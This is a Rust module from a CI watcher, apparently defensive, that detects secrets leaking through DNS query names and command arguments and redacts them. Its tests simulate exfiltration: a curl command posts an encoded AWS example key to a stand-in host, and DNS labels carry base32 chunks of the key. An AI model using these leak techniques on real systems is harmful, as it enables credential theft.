//! Secret-value matching. buildwatch knows the CI's secret values: they are in its own
//! environment, which the watched command inherits (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`,
//! `NPM_TOKEN`, `*_TOKEN`, `*_SECRET`, `*_KEY`, `*PASSWORD*`, and what the policy's `secrets:`
//! adds). At start it encodes each value the ways a leak does (raw, reversed, hex, base32,
//! base64 and base64url at every byte alignment, URL encoding) and keeps only keyed hashes
//! of every [`WINDOW`]-character window of those encodings, with the variable's name: never
//! the values. DNS query names are checked against them, label by label and joined per
//! domain over time, so a value spread over many short labels or many queries is still
//! found.
//!
//! A window is 12 characters: a chance match of a 12-character window of random base32 is
//! 2^-60 per window; hex, the weakest, 2^-48.

use std::{
    collections::HashMap,
    hash::{BuildHasher, RandomState},
};

/// Characters per window; values shorter than this are not matched (see
/// [`SecretsConfig::min_length`]).
pub const WINDOW: usize = 12;
/// Domains whose joined labels are remembered at once (the table starts over when full).
const MAX_DOMAINS: usize = 4096;

/// Which environment variables hold secrets (name globs, `*` any run of characters), which to
/// leave out, and the shortest value matched.
#[derive(Clone, Debug, PartialEq)]
pub struct SecretsConfig {
    pub env: Vec<String>,
    pub ignore: Vec<String>,
    pub min_length: usize,
}

/// The names matched by default.
pub const DEFAULT_ENV: &[&str] = &[
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "*_TOKEN",
    "*_SECRET",
    "*_SECRET_*",
    "*_KEY",
    "*_API_KEY*",
    "*PASSWORD*",
    "*_PAT",
];

impl Default for SecretsConfig {
    fn default() -> Self {
        Self {
            env: DEFAULT_ENV.iter().map(|s| s.to_string()).collect(),
            ignore: Vec::new(),
            min_length: WINDOW,
        }
    }
}

/// A [`SecretsConfig`] ready to check names with: its `env` and `ignore` globs compiled into
/// one anchored regex each, so a name is checked in one pass instead of once per glob. Every
/// exec's environment is checked (`exec.secret_env`): 100 variables against the 14 default
/// globs one by one took about 30 µs per exec.
pub struct SecretNames {
    env: Names,
    ignore: Names,
    min_length: usize,
}

enum Names {
    Regex(regex::Regex),
    /// The globs themselves, when the regex could not be built (a size limit).
    Globs(Vec<String>),
}

impl Names {
    fn new(globs: &[String]) -> Self {
        let alts: Vec<String> = globs
            .iter()
            .map(|g| {
                g.split('*')
                    .map(regex::escape)
                    .collect::<Vec<_>>()
                    .join(".*")
            })
            .collect();
        if alts.is_empty() {
            return Names::Globs(Vec::new());
        }
        match regex::Regex::new(&format!("(?s)^(?:{})$", alts.join("|"))) {
            Ok(r) => Names::Regex(r),
            Err(_) => Names::Globs(globs.to_vec()),
        }
    }

    fn any(&self, name: &str) -> bool {
        match self {
            Names::Regex(r) => r.is_match(name),
            Names::Globs(g) => g.iter().any(|g| name_matches(g, name)),
        }
    }
}

impl SecretNames {
    pub fn new(config: &SecretsConfig) -> Self {
        Self {
            env: Names::new(&config.env),
            ignore: Names::new(&config.ignore),
            min_length: config.min_length.max(WINDOW),
        }
    }

    /// Whether variable `name` holding `value` is a secret: its name matches `env` and not
    /// `ignore`, and its value is long enough and not a name itself.
    pub fn holds(&self, name: &str, value: &[u8]) -> bool {
        value.len() >= self.min_length
            && self.env.any(name)
            && !self.ignore.any(name)
            && !looks_like_a_name(value)
    }
}

impl Default for SecretNames {
    fn default() -> Self {
        Self::new(&SecretsConfig::default())
    }
}

/// A `*` glob on a variable name (ASCII, case-sensitive as the environment is).
pub fn name_matches(glob: &str, name: &str) -> bool {
    // Without collecting the pieces: every exec's environment is checked against every glob.
    let Some((first, after)) = glob.split_once('*') else {
        return glob == name;
    };
    let (mids, last) = after.rsplit_once('*').unwrap_or(("", after));
    if name.len() < first.len() + last.len() || !name.starts_with(first) || !name.ends_with(last) {
        return false;
    }
    let mut rest = &name[first.len()..name.len() - last.len()];
    for mid in mids.split('*').filter(|m| !m.is_empty()) {
        match rest.find(mid) {
            Some(i) => rest = &rest[i + mid.len()..],
            None => return false,
        }
    }
    true
}

/// Per domain: the tail of the text its queries carried so far, so that a window spanning
/// two queries is seen (all labels joined; the first label of each query joined).
#[derive(Default)]
struct Joined {
    all: Vec<u8>,
    first: Vec<u8>,
    /// The last query's labels: a repeat (getaddrinfo asks A and AAAA for one name) adds
    /// nothing to the join.
    last: Vec<u8>,
}

/// Hashes of every window of every encoding of the secrets, and a prefilter over them.
struct Index {
    hasher: RandomState,
    /// Window hash → variable, for the case-sensitive encodings (raw, base64…).
    exact: HashMap<u64, u16>,
    /// Window hash (of the lowercased window) → variable, for the case-insensitive ones (hex,
    /// base32, and every encoding lowercased: DNS does not keep case reliably).
    folded: HashMap<u64, u16>,
    /// Bits set by a rolling hash of each lowercased window: a window of a text whose bit is
    /// clear is in no map, so only the few others are hashed in full. The rolling hash costs a
    /// multiply and an add per byte (SipHash of every window cost about 50 ns each); its base
    /// is random per run, so the watched code cannot aim windows at set bits.
    bloom: Vec<u64>,
    base: u64,
    /// `base` to the power `WINDOW - 1`: what the byte leaving the window weighed.
    top: u64,
}

/// 32 KiB: ten secrets set about 8,000 bits, so about 3% of a text's windows are hashed in
/// full.
const BLOOM_SHIFT: u32 = 18;
const BLOOM_BITS: u64 = 1 << BLOOM_SHIFT;

impl Index {
    fn new() -> Self {
        let hasher = RandomState::new();
        let base = hasher.hash_one(0x5ec2e7u64) | 1;
        let top = (1..WINDOW).fold(1u64, |t, _| t.wrapping_mul(base));
        Self {
            hasher,
            exact: HashMap::new(),
            folded: HashMap::new(),
            bloom: Vec::new(),
            base,
            top,
        }
    }

    fn bit(&self, roll: u64) -> (usize, u64) {
        let b = roll.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> (64 - BLOOM_SHIFT);
        ((b / 64) as usize, 1 << (b % 64))
    }

    fn mark(&mut self, lower: &[u8]) {
        if self.bloom.is_empty() {
            self.bloom = vec![0; (BLOOM_BITS / 64) as usize];
        }
        let roll = lower.iter().fold(0u64, |h, &b| {
            h.wrapping_mul(self.base).wrapping_add(b as u64)
        });
        let (i, m) = self.bit(roll);
        self.bloom[i] |= m;
    }

    /// The variable (its index) whose value, in one of its encodings, some window of `text`
    /// is part of.
    fn find(&self, text: &[u8]) -> Option<u16> {
        if text.len() < WINDOW || self.bloom.is_empty() {
            return None;
        }
        let low = |b: u8| b.to_ascii_lowercase() as u64;
        let mut roll = text[..WINDOW]
            .iter()
            .fold(0u64, |h, &b| h.wrapping_mul(self.base).wrapping_add(low(b)));
        for start in 0..=text.len() - WINDOW {
            if start > 0 {
                roll = roll
                    .wrapping_sub(low(text[start - 1]).wrapping_mul(self.top))
                    .wrapping_mul(self.base)
                    .wrapping_add(low(text[start + WINDOW - 1]));
            }
            let (i, m) = self.bit(roll);
            if self.bloom[i] & m == 0 {
                continue;
            }
            let w = &text[start..start + WINDOW];
            if let Some(&i) = self.exact.get(&self.hasher.hash_one(w)) {
                return Some(i);
            }
            let lower = w.to_ascii_lowercase();
            if let Some(&i) = self.folded.get(&self.hasher.hash_one(&lower[..])) {
                return Some(i);
            }
        }
        None
    }
}

pub struct Secrets {
    index: Index,
    names: Vec<String>,
    joined: HashMap<String, Joined>,
    /// A replay: the `<redacted:VAR>` markers of the stream name what the live run found
    /// (the values are not in the stream). A live run never trusts them: the watched code
    /// could write one.
    pub trust_markers: bool,
}

/// How a redacted value starts: `<redacted:VAR>`.
pub const REDACTED_PREFIX: &str = "<redacted:";

/// What a redacted value becomes: `<redacted:VAR>`.
pub fn redaction(var: &str) -> String {
    format!("{REDACTED_PREFIX}{var}>")
}

/// The variable a redaction marker at the start of `s` names.
pub fn redacted_var(s: &str) -> Option<&str> {
    let rest = s.strip_prefix(REDACTED_PREFIX)?;
    let var = &rest[..rest.find('>')?];
    (!var.is_empty() && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')).then_some(var)
}

impl Secrets {
    /// Nothing to look for.
    pub fn none() -> Self {
        Self {
            index: Index::new(),
            names: Vec::new(),
            joined: HashMap::new(),
            trust_markers: false,
        }
    }

    /// The secrets among `vars` (an environment) that `config` names.
    pub fn from_vars<I, K, V>(vars: I, config: &SecretsConfig) -> Self
    where
        I: IntoIterator<Item = (K, V)>,
        K: AsRef<str>,
        V: AsRef<[u8]>,
    {
        let mut s = Self::none();
        let names = SecretNames::new(config);
        for (name, value) in vars {
            let (name, value) = (name.as_ref(), value.as_ref());
            if !names.holds(name, value) || s.names.len() >= u16::MAX as usize {
                continue;
            }
            let index = s.names.len() as u16;
            s.names.push(name.to_owned());
            s.add(value, index);
        }
        s
    }

    /// The secrets in this process's environment that `config` names.
    pub fn from_env(config: &SecretsConfig) -> Self {
        use std::os::unix::ffi::OsStringExt;
        Self::from_vars(
            std::env::vars_os().filter_map(|(k, v)| Some((k.into_string().ok()?, v.into_vec()))),
            config,
        )
    }

    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }

    /// Names of the variables looked for.
    pub fn names(&self) -> &[String] {
        &self.names
    }

    fn add(&mut self, value: &[u8], index: u16) {
        let reversed: Vec<u8> = value.iter().rev().copied().collect();
        let mut exact: Vec<Vec<u8>> = vec![value.to_vec(), reversed.clone(), url_encode(value)];
        let mut folded: Vec<Vec<u8>> = vec![hex(value), hex(&reversed)];
        for pad in 0..3 {
            for url in [false, true] {
                exact.push(base64_stable(value, pad, url));
            }
        }
        for pad in 0..5 {
            folded.push(base32_stable(value, pad));
        }
        let x = &mut self.index;
        for e in &exact {
            for w in e.windows(WINDOW) {
                x.exact.insert(x.hasher.hash_one(w), index);
                let lower = w.to_ascii_lowercase();
                x.folded.insert(x.hasher.hash_one(&lower[..]), index);
                x.mark(&lower);
            }
        }
        for e in &folded {
            for w in e.windows(WINDOW) {
                let lower = w.to_ascii_lowercase();
                x.folded.insert(x.hasher.hash_one(&lower[..]), index);
                x.mark(&lower);
            }
        }
    }

    /// The variable whose value (in one of its encodings) some window of `text` is part of.
    fn find(&self, text: &[u8]) -> Option<&str> {
        self.index
            .find(text)
            .map(|i| self.names[i as usize].as_str())
    }

    /// Each argument that carries a secret's value (raw, reversed, hex, base32, base64 or URL
    /// encoded) replaced by `<redacted:VAR>`, so that no output holds the value. The variable
    /// of the first one, if any.
    pub fn redact_args(&self, args: &mut [String]) -> Option<String> {
        let mut first = args.iter().find_map(|a| self.marker(a));
        if self.is_empty() {
            return first;
        }
        for a in args.iter_mut() {
            if let Some(var) = self.find(a.as_bytes()) {
                let var = var.to_owned();
                *a = redaction(&var);
                first.get_or_insert(var);
            }
        }
        first
    }

    /// In a replay, the variable a live run's redaction marker at the start of `text` names.
    fn marker(&self, text: &str) -> Option<String> {
        self.trust_markers
            .then(|| redacted_var(text))
            .flatten()
            .map(str::to_owned)
    }

    /// The variable whose value `qname` carries by itself (a response's name, which repeats
    /// its query's).
    pub fn check_name(&self, qname: &str, domain: &str) -> Option<String> {
        if let Some(v) = self.marker(qname) {
            return Some(v);
        }
        if self.is_empty() {
            return None;
        }
        let sub = subdomain(qname, domain);
        let all: Vec<u8> = sub.bytes().filter(|&b| b != b'.').collect();
        self.find(&all).map(str::to_owned)
    }

    /// A DNS query for `qname` whose registrable domain is `domain`: the variable whose value
    /// it carries, alone or joined with the labels earlier queries to `domain` carried.
    pub fn check_query(&mut self, qname: &str, domain: &str) -> Option<String> {
        if let Some(v) = self.marker(qname) {
            return Some(v);
        }
        if self.is_empty() {
            return None;
        }
        let sub = subdomain(qname, domain);
        if sub.is_empty() {
            return None;
        }
        let all: Vec<u8> = sub.bytes().filter(|&b| b != b'.').collect();
        let first: Vec<u8> = sub.split('.').next().unwrap_or("").as_bytes().to_vec();
        if let Some(n) = self.find(&all) {
            return Some(n.to_owned());
        }
        if self.joined.len() >= MAX_DOMAINS && !self.joined.contains_key(domain) {
            self.joined.clear();
        }
        let j = self.joined.entry(domain.to_owned()).or_default();
        if j.last == all {
            return None;
        }
        j.last.clone_from(&all);
        let mut found = None;
        for (tail, new) in [(&mut j.all, &all), (&mut j.first, &first)] {
            tail.extend_from_slice(new);
            if found.is_none() && tail.len() >= WINDOW {
                found = self
                    .index
                    .find(tail)
                    .map(|i| self.names[i as usize].clone());
            }
            // Keep what a window ending in the next query may start with.
            let keep = tail.len().min(WINDOW - 1);
            tail.drain(..tail.len() - keep);
        }
        found
    }
}

/// The labels of `qname` left of its registrable domain `domain`, in the case they were sent
/// in (empty when there are none).
fn subdomain<'q>(qname: &'q str, domain: &str) -> &'q str {
    let name = qname.trim_end_matches('.');
    name.len()
        .checked_sub(domain.len())
        .and_then(|end| name.get(..end))
        .filter(|_| name.to_ascii_lowercase().ends_with(domain))
        .unwrap_or("")
        .trim_end_matches('.')
}

/// A hostname or URL (`registry.example.com`, `https://…`): it appears in DNS queries for
/// what it names, not as a leak.
fn looks_like_a_name(v: &[u8]) -> bool {
    let s = String::from_utf8_lossy(v);
    s.contains("://")
        || (s.contains('.')
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':')))
}

fn hex(v: &[u8]) -> Vec<u8> {
    const H: &[u8; 16] = b"0123456789abcdef";
    v.iter()
        .flat_map(|b| [H[(b >> 4) as usize], H[(b & 15) as usize]])
        .collect()
}

fn url_encode(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    for &b in v {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b);
        } else {
            out.extend_from_slice(format!("%{b:02X}").as_bytes());
        }
    }
    out
}

/// The characters of base64(`pad` unknown bytes + `v` + unknown bytes) that depend on `v`
/// alone: what any base64 of a text holding `v` at that alignment contains.
fn base64_stable(v: &[u8], pad: usize, url: bool) -> Vec<u8> {
    const STD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const URL: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let table = if url { URL } else { STD };
    let mut data = vec![0u8; pad];
    data.extend_from_slice(v);
    let mut out = Vec::new();
    for chunk in data.chunks(3) {
        let n = chunk.len();
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let x = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..=n {
            out.push(table[((x >> (18 - 6 * i)) & 63) as usize]);
        }
    }
    // The first characters mix in the unknown bytes before `v`; the last group, those after.
    let skip = (pad * 8).div_ceil(6);
    let whole = (data.len() / 3) * 4;
    out.get(skip..whole.max(skip)).unwrap_or(&[]).to_vec()
}

/// [`base64_stable`] for base32 (RFC 4648), lowercase.
fn base32_stable(v: &[u8], pad: usize) -> Vec<u8> {
    const T: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut data = vec![0u8; pad];
    data.extend_from_slice(v);
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u64, 0u32);
    for &b in &data {
        acc = (acc << 8) | u64::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(T[((acc >> bits) & 31) as usize]);
        }
    }
    let skip = (pad * 8).div_ceil(5);
    // Characters made only of whole bytes of `data` (the partial last one is not).
    out.get(skip..).unwrap_or(&[]).to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

    #[test]
    fn arguments_carrying_a_secret_are_redacted_and_markers_read_only_in_a_replay() {
        let s = secrets();
        let b64 = base64_stable(KEY.as_bytes(), 0, false);
        let mut args: Vec<String> = vec![
            "curl".into(),
            "-d".into(),
            format!("k={}", String::from_utf8_lossy(&b64)),
            format!("https://x.test/{}", KEY.chars().rev().collect::<String>()),
            "https://x.test/plain".into(),
        ];
        assert_eq!(
            s.redact_args(&mut args).as_deref(),
            Some("AWS_SECRET_ACCESS_KEY")
        );
        assert_eq!(
            args,
            [
                "curl",
                "-d",
                "<redacted:AWS_SECRET_ACCESS_KEY>",
                "<redacted:AWS_SECRET_ACCESS_KEY>",
                "https://x.test/plain"
            ]
        );
        // A live run does not take the watched code's word for it.
        let mut forged = vec!["curl".to_owned(), "<redacted:GITHUB_TOKEN>".to_owned()];
        assert_eq!(s.redact_args(&mut forged), None);
        let mut replay = Secrets::none();
        replay.trust_markers = true;
        assert_eq!(
            replay.redact_args(&mut forged).as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(
            replay
                .check_name("<redacted:GITHUB_TOKEN>.x.test", "x.test")
                .as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(redacted_var("<redacted:A B>"), None);
        assert_eq!(redacted_var("<redacted:>"), None);
    }

    fn secrets() -> Secrets {
        Secrets::from_vars(
            [
                ("AWS_SECRET_ACCESS_KEY", KEY),
                ("AWS_REGION", "us-east-1"),
                ("HOME", "/root"),
                ("NPM_CONFIG_REGISTRY_TOKEN", "https://registry.example.com/"),
            ],
            &SecretsConfig::default(),
        )
    }

    fn b32(v: &[u8]) -> String {
        String::from_utf8(base32_stable(v, 0)).unwrap()
    }

    #[test]
    fn only_named_long_values_that_are_not_names_are_kept() {
        assert_eq!(secrets().names(), ["AWS_SECRET_ACCESS_KEY"]);
        let names = SecretNames::default();
        let long = b"0123456789abcdef";
        for (n, want) in [
            ("GITHUB_TOKEN", true),
            ("DB_PASSWORD_2", true),
            ("MY_API_KEY_ID", true),
            ("AWS_ACCESS_KEY_ID", true),
            ("TOKENS", false),
            ("PATH", false),
            ("A_TOKEN\nX", false),
        ] {
            assert_eq!(names.holds(n, long), want, "{n}");
            assert_eq!(
                DEFAULT_ENV.iter().any(|g| name_matches(g, n)),
                want,
                "{n}: the regex and the globs agree"
            );
        }
        assert!(!names.holds("GITHUB_TOKEN", b"short"));
        assert!(name_matches("*_TOKEN", "GITHUB_TOKEN"));
        assert!(name_matches("*PASSWORD*", "DB_PASSWORD_2"));
        assert!(!name_matches("*_TOKEN", "TOKENS"));
        assert!(name_matches("AWS_*", "AWS_X"));
    }

    #[test]
    fn encodings_at_every_alignment_are_found() {
        let mut s = secrets();
        let cases = [
            b32(KEY.as_bytes()),
            b32(format!("k={KEY}").as_bytes()),
            String::from_utf8(hex(KEY.as_bytes())).unwrap(),
            String::from_utf8(base64_stable(format!("xy{KEY}").as_bytes(), 0, true)).unwrap(),
            KEY.chars()
                .rev()
                .collect::<String>()
                .to_lowercase()
                .replace('/', "-"),
        ];
        for (i, c) in cases.iter().enumerate() {
            let label: String = c
                .chars()
                .filter(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
                .take(40)
                .collect();
            let q = format!("{label}.x{i}.example.com");
            assert_eq!(
                s.check_query(&q, "example.com").as_deref(),
                Some("AWS_SECRET_ACCESS_KEY"),
                "{c}"
            );
        }
        assert_eq!(s.check_query("www.example.com", "example.com"), None);
        assert_eq!(
            s.check_query("abcdefghijklmnopqrstuvwx.example.org", "example.org"),
            None
        );
    }

    #[test]
    fn repeated_queries_do_not_break_the_join() {
        // getaddrinfo asks A and AAAA for each name: every 5-character label comes twice.
        let mut s = secrets();
        let enc = b32(KEY.as_bytes());
        let found = enc.as_bytes().chunks(5).enumerate().any(|(i, chunk)| {
            let q = format!("{}.{i}.drip.test", std::str::from_utf8(chunk).unwrap());
            let a = s.check_query(&q, "drip.test").is_some();
            a | s.check_query(&q, "drip.test").is_some()
        });
        assert!(found);
        // A response names what its query named: matched alone, without joining.
        let full = format!("{}.leak.test", &enc[..30]);
        assert_eq!(
            s.check_name(&full, "leak.test").as_deref(),
            Some("AWS_SECRET_ACCESS_KEY")
        );
    }

    #[test]
    fn short_labels_are_joined_per_domain() {
        let mut s = secrets();
        let enc = b32(KEY.as_bytes());
        let mut hit = None;
        for (i, chunk) in enc.as_bytes().chunks(6).enumerate() {
            let label = std::str::from_utf8(chunk).unwrap();
            // A noise query to another domain in between does not break the join.
            assert_eq!(s.check_query("www.example.org", "example.org"), None);
            if let Some(n) = s.check_query(&format!("{label}.{i}.leak.test"), "leak.test") {
                hit = Some((i, n));
                break;
            }
        }
        let (i, n) = hit.expect("found once enough labels arrived");
        assert_eq!(n, "AWS_SECRET_ACCESS_KEY");
        assert!(i >= 1, "one 6-character label cannot hold a window");
    }
}
